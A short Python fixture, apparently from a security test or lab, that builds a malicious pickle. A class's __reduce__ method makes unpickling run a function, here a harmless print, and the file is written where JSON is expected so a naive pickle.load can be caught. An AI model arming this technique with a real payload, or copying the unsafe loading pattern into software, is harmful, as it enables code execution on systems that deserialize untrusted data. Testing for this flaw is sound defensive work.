"""
attacks = "Leave a pickle where JSON is expected."
promise = "harvest"
layers = []
observed = "ok"
control = "bare"
decode = "json"
naive = "import pickle; pickle.load(open(trick, 'rb'))"
"""
import pickle


class Evil:
    def __reduce__(self):
        return print, ("GOT code to run",)


open("../out/trick", "wb").write(pickle.dumps(Evil()))
